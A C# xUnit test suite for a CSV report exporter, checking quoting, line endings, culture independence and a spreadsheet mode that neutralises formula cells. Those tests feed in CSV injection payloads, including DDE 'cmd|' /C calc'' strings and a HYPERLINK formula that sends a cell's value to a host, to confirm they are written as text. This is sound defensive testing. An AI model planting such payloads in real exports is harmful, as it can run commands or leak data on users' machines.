using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using SummitData.Reporting;
using SummitData.Tests.Infrastructure;
using Xunit;

namespace SummitData.Tests;

/// <summary>The CSV report read back with an independent RFC 4180 reader.</summary>
public sealed class CsvReportTests
{
    [Fact]
    public void Figures_round_trip_field_by_field()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> records = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>()));
        IReadOnlyList<string> header = CsvReport.Columns(RecordKind.Of<Figure>());
        Assert.Equal(header, records[0]);
        Assert.Equal(data.Figures.Count, records.Count - 1);

        for (int i = 0; i < data.Figures.Count; i++)
        {
            Figure figure = data.Figures[i];
            Dictionary<string, string> row = header.Zip(records[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(figure.Id, row["id"]);
            Assert.Equal(figure.DocumentId, row["documentId"]);
            Assert.Equal(figure.Text, row["text"]);
            Assert.Equal(figure.Value, decimal.Parse(row["value"], NumberStyles.Number, CultureInfo.InvariantCulture));
            Assert.Equal(figure.Scale, Enum.GetValues<FigureScale>().Single(s => EnumNames.Of(s) == row["scale"]));
            Assert.Equal(figure.Unit, Enum.GetValues<FigureUnit>().Single(u => EnumNames.Of(u) == row["unit"]));
            Assert.Equal(figure.Measures, row["measures"]);
            Assert.Equal(figure.Period ?? string.Empty, row["period"]);
            Assert.Equal(figure.IsApproximate, bool.Parse(row["approximate"]));
            Assert.Equal(figure.Direction is { } direction ? EnumNames.Of(direction) : string.Empty, row["direction"]);
            Assert.Equal(figure.Citation.Line, int.Parse(row["line"], CultureInfo.InvariantCulture));
            Assert.Equal(figure.Citation.Column, int.Parse(row["column"], CultureInfo.InvariantCulture));
            Assert.Equal(figure.ClaimId ?? string.Empty, row["claimId"]);
            Assert.Equal(figure.Citation.Offset, int.Parse(row["offset"], CultureInfo.InvariantCulture));
            Assert.Equal(figure.Citation.Length, int.Parse(row["length"], CultureInfo.InvariantCulture));

            // The place is the words': the text at offset and length in the document is the row's text.
            Assert.Equal(row["text"], data.Documents.Get(row["documentId"]).Text.Substring(int.Parse(row["offset"], CultureInfo.InvariantCulture), int.Parse(row["length"], CultureInfo.InvariantCulture)));
        }

        Assert.Contains(data.Figures, f => f.ClaimId is not null);
        Assert.Contains(data.Figures, f => f.ClaimId is null);
    }

    [Fact]
    public void Quotes_round_trip_with_their_references()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> records = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>()));
        IReadOnlyList<string> header = CsvReport.Columns(RecordKind.Of<Quote>());
        Assert.Equal(header, records[0]);
        Assert.Equal(data.Quotes.Count, records.Count - 1);

        for (int i = 0; i < data.Quotes.Count; i++)
        {
            Quote quote = data.Quotes[i];
            Dictionary<string, string> row = header.Zip(records[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(quote.Id, row["id"]);
            Assert.Equal(quote.Text, row["text"]);
            Assert.Equal(EnumNames.Of(quote.Kind), row["kind"]);
            Assert.Equal(quote.Speaker?.Id ?? string.Empty, row["speakerId"]);
            Assert.Equal(quote.Source?.Id ?? string.Empty, row["sourceId"]);
            Assert.Equal(quote.Attribution ?? string.Empty, row["attribution"]);
            Assert.Equal(quote.Citation.Line, int.Parse(row["line"], CultureInfo.InvariantCulture));
            Assert.Equal(quote.Citation.Column, int.Parse(row["column"], CultureInfo.InvariantCulture));
            Assert.Equal(quote.Citation.Offset, int.Parse(row["offset"], CultureInfo.InvariantCulture));
            Assert.Equal(quote.Citation.Length, int.Parse(row["length"], CultureInfo.InvariantCulture));
            Assert.Equal(row["text"], data.Documents.Get(row["documentId"]).Text.Substring(int.Parse(row["offset"], CultureInfo.InvariantCulture), int.Parse(row["length"], CultureInfo.InvariantCulture)));
        }

        // The references resolve in the data set.
        Assert.All(records.Skip(1), r => Assert.True(r[4].Length == 0 || data.People.TryGet(r[4], out _)));
        Assert.All(records.Skip(1), r => Assert.True(r[5].Length == 0 || data.Agreements.TryGet(r[5], out _)));
    }

    public static TheoryData<string> Kinds => [.. RecordKind.All.Select(k => k.Name)];

    [Theory]
    [MemberData(nameof(Kinds))]
    public void Every_kind_has_its_header_and_one_row_per_record_in_order(string name)
    {
        SummitDataSet data = Seeds.DataSet;
        RecordKind kind = RecordKind.Of(name);
        List<string[]> records = ReportParsing.ParseCsv(CsvReport.Render(data, kind));
        IReadOnlyList<string> header = CsvReport.Columns(kind);
        Assert.Equal("id", header[0]);
        Assert.Equal(header, records[0]);
        Assert.Equal(kind.Columns.Where(c => c.InCsv).Select(c => c.Name), header);
        Assert.All(records, r => Assert.Equal(header.Count, r.Length));
        Assert.NotEmpty(ReportParsing.Records(data, kind));
        Assert.Equal(ReportParsing.Records(data, kind).Select(r => r.Id), records.Skip(1).Select(r => r[0]));
    }

    [Fact]
    public void Lists_of_citations_are_their_words_and_references_their_ids_as_json_arrays()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> claims = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Claim>()));
        List<string[]> sides = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Discrepancy>()));
        List<string[]> entities = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Entity>()));
        for (int i = 0; i < data.Claims.Count; i++)
        {
            Claim claim = data.Claims[i];
            Dictionary<string, string> row = claims[0].Zip(claims[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(claim.Statement, row["statement"]);
            Assert.Equal(claim.SourceCount, int.Parse(row["sourceCount"], CultureInfo.InvariantCulture));
            Assert.Equal(claim.DocumentIds, ReportParsing.CsvList(row["documentIds"]));
            Assert.Equal(claim.AboutIds, ReportParsing.CsvList(row["about"]));

            // One item per citation, in order, repeated words included: item i is the citation of index i + 1 in the citations table.
            Assert.Equal(claim.Citations.Select(c => c.Text), ReportParsing.CsvList(row["citations"]));
        }

        for (int i = 0; i < data.Discrepancies.Count; i++)
        {
            Discrepancy discrepancy = data.Discrepancies[i];
            Dictionary<string, string> row = sides[0].Zip(sides[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(EnumNames.Of(discrepancy.Kind), row["kind"]);
            Assert.Equal(discrepancy.AboutIds, ReportParsing.CsvList(row["about"]));
            Assert.Equal(discrepancy.Sides.Select(s => s.Text), ReportParsing.CsvList(row["sides"]));
        }

        for (int i = 0; i < data.Entities.Count; i++)
        {
            Entity entity = data.Entities[i];
            Dictionary<string, string> row = entities[0].Zip(entities[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(entity.Name, row["name"]);
            Assert.Equal(entity.Spellings, ReportParsing.CsvList(row["spellings"]));
            Assert.Equal(entity.Mentions.Count, int.Parse(row["mentionCount"], CultureInfo.InvariantCulture));
            Assert.Equal(entity.Mentions.Select(m => m.DocumentId).Distinct(), ReportParsing.CsvList(row["documentIds"]));
        }
    }

    [Fact]
    public void Lists_are_json_arrays_and_counts_derived_from_the_records()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> agreements = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Agreement>()));
        IReadOnlyList<string> header = agreements[0];
        for (int i = 0; i < data.Agreements.Count; i++)
        {
            Agreement agreement = data.Agreements[i];
            string[] row = agreements[i + 1];
            Assert.Equal(EnumNames.Of(agreement.Status), row[IndexOf(header, "status")]);
            Assert.Equal(agreement.Parties.Select(p => p.Name), ReportParsing.CsvList(row[IndexOf(header, "parties")]));
            Assert.Equal(agreement.Mentions.Count, int.Parse(row[IndexOf(header, "mentionCount")], CultureInfo.InvariantCulture));
            Assert.Equal(agreement.Mentions.Select(m => m.DocumentId).Distinct(), ReportParsing.CsvList(row[IndexOf(header, "documentIds")]));
        }
    }

    [Fact]
    public void Fields_with_commas_quotes_and_line_breaks_survive()
    {
        SummitDataSet data = TrickyData.Create();

        List<string[]> figures = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>()));
        Assert.Equal(data.Figures.Select(f => f.Measures), figures.Skip(1).Select(r => r[6]));
        Assert.Equal(data.Figures.Select(f => f.Text), figures.Skip(1).Select(r => r[2]));
        Assert.Equal(data.Figures.Select(f => f.Period ?? string.Empty), figures.Skip(1).Select(r => r[7]));
        Assert.Contains(data.Figures, f => f.Measures.Contains(',') && f.Measures.Contains('"') && f.Measures.Contains('\n'));
        Assert.Contains(data.Figures, f => f.Text.Contains('\n'));

        // 13.50 keeps its written precision, as in the JSON report.
        Assert.Equal("13.50", figures.Single(r => r[0] == "across-lines")[3]);

        List<string[]> documents = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Document>()));
        Document document = data.Documents.Single();
        Assert.Equal(document.Title, documents[1][3]);
        Assert.Equal(document.Authors, ReportParsing.CsvList(documents[1][5]));
        Assert.Equal(["Doe, Jane", "Roe \"R\""], ReportParsing.CsvList(documents[1][5]));

        // As docs/report-formats.md shows the field.
        Assert.Contains(",\"[\"\"Doe, Jane\"\",\"\"Roe \\\"\"R\\\"\"\"\"]\",", CsvReport.Render(data, RecordKind.Of<Document>()), StringComparison.Ordinal);
        Assert.Equal("2024-05-16", documents[1][6]);

        List<string[]> quotes = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>()));
        Assert.Equal(data.Quotes.Select(q => q.Text), quotes.Skip(1).Select(r => r[2]));
        Assert.Equal(data.Quotes.Select(q => q.Attribution ?? string.Empty), quotes.Skip(1).Select(r => r[6]));

        List<string[]> people = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Person>()));
        Assert.Equal(data.People.Single().Name, people[1][1]);
    }

    [Fact]
    public void Records_end_with_crlf_and_bare_line_breaks_occur_only_inside_quotes()
    {
        string csv = CsvReport.Render(TrickyData.Create(), RecordKind.Of<Figure>());
        Assert.EndsWith("\r\n", csv, StringComparison.Ordinal);

        // Outside quoted fields, every LF follows a CR.
        bool quoted = false;
        for (int i = 0; i < csv.Length; i++)
        {
            if (csv[i] == '"')
            {
                quoted = !quoted;
            }
            else if (csv[i] == '\n' && !quoted)
            {
                Assert.Equal('\r', csv[i - 1]);
            }
        }
    }

    [Fact]
    public void Output_is_deterministic_and_culture_free()
    {
        foreach (RecordKind kind in RecordKind.All)
        {
            string invariant = Cultures.Render("", () => CsvReport.Render(TrickyData.Create(), kind));
            Assert.Equal(invariant, Cultures.Render("de-DE", () => CsvReport.Render(TrickyData.Create(), kind)));
            Assert.Equal(invariant, Cultures.Render("fr-FR", () => CsvReport.Render(TrickyData.Create(), kind)));
            Assert.Equal(CsvReport.Render(Seeds.DataSet, kind), CsvReport.Render(Seeds.DataSet, kind));
        }
    }

    [Fact]
    public void Unknown_or_missing_kind_is_refused()
    {
        ArgumentException unknown = Assert.Throws<ArgumentException>(() => RecordKind.Of("figure"));
        Assert.Contains("figures", unknown.Message, StringComparison.Ordinal);
        Assert.False(RecordKind.TryGet("Figures", out _));
        Assert.Throws<ArgumentException>(() => RecordKind.Of<INamedEntity>());
        Assert.Throws<ArgumentNullException>(() => CsvReport.Render(Seeds.DataSet, null!));
        Assert.Throws<ArgumentNullException>(() => CsvReport.Columns(null!));
        Assert.Throws<ArgumentNullException>(() => CsvReport.Render(null!, RecordKind.Of<Figure>()));
    }

    [Fact]
    public void Spreadsheet_mode_writes_formula_cells_as_text_and_leaves_plain_numbers_alone()
    {
        string[] formulas = ["=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "=1+2", "\tindented", "\r\nbroken", "-", "+", "-.5", "=-3.5"];
        string[] harmless = ["-3.5", "+7", "-12", "0", "3.5", "a=1", " =1", "'=1", string.Empty];
        SummitDataSet data = QuotesSaying([.. formulas, .. harmless]);

        List<string[]> raw = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Raw));
        Assert.Equal(CsvReport.Render(data, RecordKind.Of<Quote>()), CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Raw));
        List<string[]> safe = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Spreadsheet));
        int text = IndexOf(CsvReport.Columns(RecordKind.Of<Quote>()), "text");
        int attribution = IndexOf(CsvReport.Columns(RecordKind.Of<Quote>()), "attribution");

        Assert.Equal(raw.Count, safe.Count);
        Assert.Equal([.. formulas, .. harmless], raw.Skip(1).Select(r => r[attribution]));
        Assert.Equal([.. formulas.Select(f => "'" + f), .. harmless], safe.Skip(1).Select(r => r[attribution]));
        Assert.Equal(raw.Skip(1).Select(r => r[text]), safe.Skip(1).Select(r => r[text]));

        // Every other field is the same in both modes; a neutralised one is quoted, so that its apostrophe is not
        // taken for part of a bare field by a reader that trims.
        Assert.All(raw.Zip(safe), pair => Assert.Equal(pair.First.Length, pair.Second.Length));
        string csv = CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Spreadsheet);
        Assert.Contains("\"'@SUM(1)\"", csv, StringComparison.Ordinal);
        Assert.Contains(",-3.5,", csv, StringComparison.Ordinal);
    }

    [Fact]
    public void Spreadsheet_mode_leaves_negative_values_numbers()
    {
        const string text = "Trade took a fall.";
        string file = $"---\nformat: summitdata/1\nid: fall\nsha256: {SummitData.Loading.SummitDataLoader.TextSha256(text)}\nfigures:\n  - id: fall\n    exact: a fall\n    value: -13.5\n    unit: percent\n    measures: the fall of trade\n---\n{text}";
        SummitDataSet data = SummitData.Loading.SummitDataLoader.LoadText("fall.summit", file).EnsureSuccess();
        List<string[]> figures = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>(), CsvMode.Spreadsheet));
        Assert.Equal("-13.5", figures[1][IndexOf(CsvReport.Columns(RecordKind.Of<Figure>()), "value")]);
    }

    [Fact]
    public void Undefined_mode_is_refused() =>
        Assert.Throws<ArgumentOutOfRangeException>(() => CsvReport.Render(Seeds.DataSet, RecordKind.Of<Quote>(), (CsvMode)7));

    [Fact]
    public void A_list_item_with_separators_brackets_formulas_and_line_breaks_survives_whole()
    {
        SummitDataSet data = ListData();
        Document document = data.Documents.Get("lists-a");
        Assert.Equal(6, document.Authors.Count);
        foreach (CsvMode mode in Enum.GetValues<CsvMode>())
        {
            List<string[]> documents = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Document>(), mode));
            string[] row = documents.Single(r => r[0] == "lists-a");
            string authors = row[IndexOf(documents[0], "authors")];

            // The item with "; " is one item, and the formula stays inside the array, which no spreadsheet runs.
            Assert.Equal(document.Authors, ReportParsing.CsvList(authors));
            Assert.StartsWith("[", authors, StringComparison.Ordinal);
            // Non-ASCII letters as they are; a character outside the BMP as JSON escapes, as the JSON report writes it.
            Assert.Contains("Łukasz \\uD83D\\uDE42", authors, StringComparison.Ordinal);
            Assert.Equal("[]", documents.Single(r => r[0] == "lists-b")[IndexOf(documents[0], "authors")]);

            List<string[]> people = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Person>(), mode));
            Person person = data.People.Single();
            Assert.Equal(["Jan; Kowalski", "J. Kowalsky"], person.Spellings);
            Assert.Equal(person.Spellings, ReportParsing.CsvList(people[1][IndexOf(people[0], "spellings")]));
            Assert.Equal(person.Roles.Select(r => r.Text), ReportParsing.CsvList(people[1][IndexOf(people[0], "roles")]));

            // The claim both documents state in the same words: an item per citation.
            List<string[]> claims = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Claim>(), mode));
            Assert.Equal(["rose 5%", "rose 5%"], ReportParsing.CsvList(claims[1][IndexOf(claims[0], "citations")]));
            Assert.Equal(["lists-a", "lists-b"], ReportParsing.CsvList(claims[1][IndexOf(claims[0], "documentIds")]));
        }
    }

    public static TheoryData<string> DataSets => new() { "seeds", "tricky", "lists" };

    [Theory]
    [MemberData(nameof(DataSets))]
    public void Every_list_of_every_kind_is_a_json_array_of_the_records_values(string name)
    {
        SummitDataSet data = Data(name);
        var lists = new Dictionary<string, Func<IRecord, IEnumerable<string>>>(StringComparer.Ordinal)
        {
            ["documents.authors"] = r => ((Document)r).Authors,
            ["documents.inferredFields"] = r => ((Document)r).InferredFields,
            ["agreements.parties"] = r => ((Agreement)r).Parties.Select(p => p.Name),
            ["agreements.documentIds"] = r => ((Agreement)r).DocumentIds,
            ["people.spellings"] = r => ((Person)r).Spellings,
            ["people.roles"] = r => ((Person)r).Roles.Select(c => c.Text),
            ["people.documentIds"] = r => ((Person)r).DocumentIds,
            ["entities.spellings"] = r => ((Entity)r).Spellings,
            ["entities.documentIds"] = r => ((Entity)r).DocumentIds,
            ["claims.documentIds"] = r => ((Claim)r).DocumentIds,
            ["claims.about"] = r => ((Claim)r).AboutIds,
            ["claims.citations"] = r => ((Claim)r).Citations.Select(c => c.Text),
            ["discrepancies.about"] = r => ((Discrepancy)r).AboutIds,
            ["discrepancies.sides"] = r => ((Discrepancy)r).Sides.Select(c => c.Text),
            ["events.who"] = r => ((Event)r).WhoIds,
            ["events.documentIds"] = r => ((Event)r).DocumentIds,
            ["events.dated"] = r => ((Event)r).Dated.Select(c => c.Text),
            ["events.citations"] = r => ((Event)r).Citations.Select(c => c.Text),
        };

        // Every list column the kinds have is listed above, so a new one is checked too.
        Assert.Equal(
            lists.Keys.Order(StringComparer.Ordinal),
            RecordKind.All.SelectMany(k => k.Columns.Where(c => c.InCsv && c.Type is ColumnType.Texts or ColumnType.References or ColumnType.Citations).Select(c => $"{k.Name}.{c.Name}")).Order(StringComparer.Ordinal));

        int items = 0;
        foreach (RecordKind kind in RecordKind.All)
        {
            List<string[]> rows = ReportParsing.ParseCsv(CsvReport.Render(data, kind));
            List<IRecord> records = ReportParsing.Records(data, kind);
            foreach ((string key, Func<IRecord, IEnumerable<string>> values) in lists.Where(l => l.Key.StartsWith(kind.Name + ".", StringComparison.Ordinal)))
            {
                int column = IndexOf(rows[0], key[(kind.Name.Length + 1)..]);
                for (int i = 0; i < records.Count; i++)
                {
                    List<string> parsed = ReportParsing.CsvList(rows[i + 1][column]);
                    Assert.Equal(values(records[i]), parsed);
                    items += parsed.Count;
                }
            }
        }

        Assert.True(items > 0, $"{name}: no list item");
    }

    [Theory]
    [MemberData(nameof(DataSets))]
    public void The_citations_table_has_every_citation_of_every_record_with_its_place_and_words(string name)
    {
        SummitDataSet data = Data(name);
        List<string[]> table = ReportParsing.ParseCsv(CsvReport.RenderCitations(data));
        Assert.Equal(["kind", "recordId", "field", "index", "documentId", "offset", "length", "line", "column", "text"], table[0]);
        Assert.Equal(CsvReport.CitationColumns, table[0]);

        // What the records hold, read from their properties, in the documented order.
        var expected = new List<(string Kind, string Id, string Field, int Index, Citation Citation)>();
        void Add(string kind, IRecord record, string field, IEnumerable<Citation> citations) =>
            expected.AddRange(citations.Select((c, i) => (kind, record.Id, field, i + 1, c)));
        data.Agreements.ToList().ForEach(r => Add("agreements", r, "mentions", r.Mentions));
        data.Figures.ToList().ForEach(r => Add("figures", r, "text", [r.Citation]));
        data.Quotes.ToList().ForEach(r => Add("quotes", r, "text", [r.Citation]));
        data.People.ToList().ForEach(r =>
        {
            Add("people", r, "roles", r.Roles);
            Add("people", r, "mentions", r.Mentions);
        });
        data.Entities.ToList().ForEach(r => Add("entities", r, "mentions", r.Mentions));
        data.Claims.ToList().ForEach(r => Add("claims", r, "citations", r.Citations));
        data.Discrepancies.ToList().ForEach(r => Add("discrepancies", r, "sides", r.Sides));
        data.Events.ToList().ForEach(r =>
        {
            Add("events", r, "dated", r.Dated);
            Add("events", r, "citations", r.Citations);
        });

        Assert.Equal(expected.Count, table.Count - 1);
        for (int i = 0; i < expected.Count; i++)
        {
            (string kind, string id, string field, int index, Citation citation) = expected[i];
            string[] row = table[i + 1];
            Assert.Equal([kind, id, field, index.ToString(CultureInfo.InvariantCulture), citation.DocumentId], row[..5]);
            int offset = int.Parse(row[5], CultureInfo.InvariantCulture);
            int length = int.Parse(row[6], CultureInfo.InvariantCulture);
            Assert.Equal((citation.Offset, citation.Length, citation.Line, citation.Column, citation.Text), (offset, length, int.Parse(row[7], CultureInfo.InvariantCulture), int.Parse(row[8], CultureInfo.InvariantCulture), row[9]));

            // The place holds the words: the row joins to the document's text.
            Assert.Equal(row[9], data.Documents.Get(row[4]).Text.Substring(offset, length));
        }

        // Kind, record, field and index are a key.
        Assert.Equal(table.Count - 1, table.Skip(1).Select(r => string.Join("\u0001", r[..4])).Distinct().Count());
        Assert.Equal(RecordKind.All.Select(k => k.Name).Where(k => expected.Any(e => e.Kind == k)), table.Skip(1).Select(r => r[0]).Distinct());
    }

    [Fact]
    public void Every_figure_and_every_claims_citation_joins_to_its_row_in_the_citations_table()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> table = ReportParsing.ParseCsv(CsvReport.RenderCitations(data));
        var byKey = table.Skip(1).ToDictionary(r => (r[0], r[1], r[2], r[3]));
        List<string[]> figures = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>()));
        string[] header = figures[0];
        foreach (string[] figure in figures.Skip(1))
        {
            string[] words = byKey[("figures", figure[0], "text", "1")];
            foreach (string column in new[] { "documentId", "offset", "length", "line", "column", "text" })
            {
                Assert.Equal(words[IndexOf(table[0], column)], figure[IndexOf(header, column)]);
            }
        }

        // A claim's CSV row lists its words; item i is the row of index i + 1, in the claim's documents.
        List<string[]> claims = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Claim>()));
        foreach (string[] claim in claims.Skip(1))
        {
            List<string> words = ReportParsing.CsvList(claim[IndexOf(claims[0], "citations")]);
            List<string[]> rows = [.. words.Select((_, i) => byKey[("claims", claim[0], "citations", (i + 1).ToString(CultureInfo.InvariantCulture))])];
            Assert.Equal(words, rows.Select(r => r[9]));
            Assert.Equal(ReportParsing.CsvList(claim[IndexOf(claims[0], "documentIds")]), rows.Select(r => r[4]).Distinct());
            Assert.False(byKey.ContainsKey(("claims", claim[0], "citations", (words.Count + 1).ToString(CultureInfo.InvariantCulture))));
        }
    }

    [Fact]
    public void The_citations_table_in_spreadsheet_mode_writes_formula_words_as_text()
    {
        SummitDataSet data = QuotesSaying(["=1+2", "x"]);
        string raw = CsvReport.RenderCitations(data);
        string safe = CsvReport.RenderCitations(data, new CsvOptions { Mode = CsvMode.Spreadsheet });
        Assert.Equal(raw, CsvReport.RenderCitations(data, CsvOptions.Raw));
        Assert.Equal(ReportParsing.ParseCsv(raw).Skip(1).Select(r => r[9]), ReportParsing.ParseCsv(safe).Skip(1).Select(r => r[9]));
        Assert.Throws<ArgumentNullException>(() => CsvReport.RenderCitations(null!));
        Assert.Throws<ArgumentNullException>(() => CsvReport.RenderCitations(data, null!));
        Assert.Throws<ArgumentOutOfRangeException>(() => CsvReport.RenderCitations(data, new CsvOptions { Mode = (CsvMode)7 }));
    }

    [Fact]
    public void A_byte_order_mark_comes_first_when_asked_for_in_either_mode()
    {
        SummitDataSet data = ListData();
        RecordKind documents = RecordKind.Of<Document>();
        foreach (CsvMode mode in Enum.GetValues<CsvMode>())
        {
            string plain = CsvReport.Render(data, documents, mode);
            string marked = CsvReport.Render(data, documents, new CsvOptions { Mode = mode, ByteOrderMark = true });
            Assert.Equal("\uFEFF" + plain, marked);
            Assert.Equal(plain, CsvReport.Render(data, documents, new CsvOptions { Mode = mode }));
            Assert.Equal("\uFEFF" + CsvReport.RenderCitations(data, new CsvOptions { Mode = mode }), CsvReport.RenderCitations(data, new CsvOptions { Mode = mode, ByteOrderMark = true }));

            // As bytes: EF BB BF, then the UTF-8 of the same text, which reads back to the same records.
            using var stream = new System.IO.MemoryStream();
            CsvReport.Write(data, documents, new CsvOptions { Mode = mode, ByteOrderMark = true }, stream);
            byte[] bytes = stream.ToArray();
            Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
            Assert.Equal(System.Text.Encoding.UTF8.GetBytes(plain), bytes[3..]);
            Assert.Equal(ReportParsing.ParseCsv(plain), ReportParsing.ParseCsv(new System.Text.UTF8Encoding(false, true).GetString(bytes[3..])));
        }

        // The spreadsheet preset is both, and a formula among the fields is still written as text after the mark.
        string sheet = CsvReport.Render(QuotesSaying(["=1+2"]), RecordKind.Of<Quote>(), CsvOptions.Spreadsheet);
        Assert.StartsWith("\uFEFFid,", sheet, StringComparison.Ordinal);
        Assert.Contains("\"'=1+2\"", sheet, StringComparison.Ordinal);
        Assert.False(CsvOptions.Raw.ByteOrderMark);
        Assert.Equal(CsvMode.Raw, CsvOptions.Raw.Mode);
        Assert.Throws<ArgumentNullException>(() => CsvReport.Render(data, documents, (CsvOptions)null!));
    }

    private static SummitDataSet Data(string name) => name switch
    {
        "seeds" => Seeds.DataSet,
        "tricky" => TrickyData.Create(),
        "lists" => ListData(),
        _ => throw new ArgumentException(name),
    };

    /// <summary>
    /// Two documents whose lists hold what a joined list could not keep apart: an author with "; " in it, brackets, a
    /// formula, non-ASCII letters and an emoji, quotes and a backslash, a line break; a person spelled with "; "; a claim
    /// both documents state in the same words. The second document states no metadata and has a quote credited to no
    /// one, so every value a report may leave out is missing somewhere.
    /// </summary>
    internal static SummitDataSet ListData()
    {
        const string a = "Jan; Kowalski said prices rose 5% in [Q1]. J. Kowalsky agreed.\n";
        const string b = "Prices rose 5% again, “Ann” wrote; the quarter was Q1.\n";
        const string shared = "claims:\n  - id: prices-rose\n    statement: Prices rose 5%\n    about: [jan-kowalski]\n    citations: [rose 5%]\n"
            + "discrepancies:\n  - id: quarter-wording\n    topic: How the quarter is written\n    kind: wording\n    about: [jan-kowalski]\n";
        string first = $"---\nformat: summitdata/1\nid: lists-a\nsha256: {SummitData.Loading.SummitDataLoader.TextSha256(a)}\n"
            + "authors: [\"Kowalski; Jan\", \"[draft]\", \"=cmd|' /C calc'!A0\", \"Łukasz 🙂\", \"O\\\"Brien, \\\\ Ann\", \"two\\nlines\"]\ninferred: [authors]\n"
            + "people:\n  - id: jan-kowalski\n    name: Jan Kowalski\n    mentions: [\"Jan; Kowalski\", J. Kowalsky]\n    roles: [Kowalsky agreed]\n"
            + shared + "    side: \"[Q1]\"\n---\n" + a;
        string second = $"---\nformat: summitdata/1\nid: lists-b\nsha256: {SummitData.Loading.SummitDataLoader.TextSha256(b)}\n"
            + "quotes:\n  - id: ann\n    exact: Ann\n    kind: scare-quote\n"
            + shared + "    side: Q1\n---\n" + b;
        SummitData.Loading.LoadResult result = SummitData.Loading.SummitDataLoader.LoadTexts([("/lists/a.summit", first), ("/lists/b.summit", second)]);
        Assert.True(!result.HasErrors, string.Join("\n", result.Diagnostics));
        return result.Data;
    }

    /// <summary>One document with a quote per word, each attributed to that word (any string, written as a YAML escape).</summary>
    private static SummitDataSet QuotesSaying(string[] words)
    {
        string text = string.Join(" ", words.Select((_, i) => $"“q{i}”"));
        var yaml = new System.Text.StringBuilder();
        yaml.Append("---\nformat: summitdata/1\nid: sheet\nsha256: ").Append(SummitData.Loading.SummitDataLoader.TextSha256(text)).Append("\nquotes:\n");
        for (int i = 0; i < words.Length; i++)
        {
            string escaped = string.Concat(words[i].Select(c => c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                '\t' => "\\t",
                '\r' => "\\r",
                '\n' => "\\n",
                _ => c.ToString(),
            }));
            yaml.Append($"  - id: q{i}\n    exact: q{i}\n    kind: title\n    attribution: \"{escaped}\"\n");
        }

        return SummitData.Loading.SummitDataLoader.LoadText("sheet.summit", yaml + "---\n" + text).EnsureSuccess();
    }

    private static int IndexOf(IReadOnlyList<string> header, string column)
    {
        int index = header.ToList().IndexOf(column);
        Assert.True(index >= 0, $"no column {column}");
        return index;
    }
}
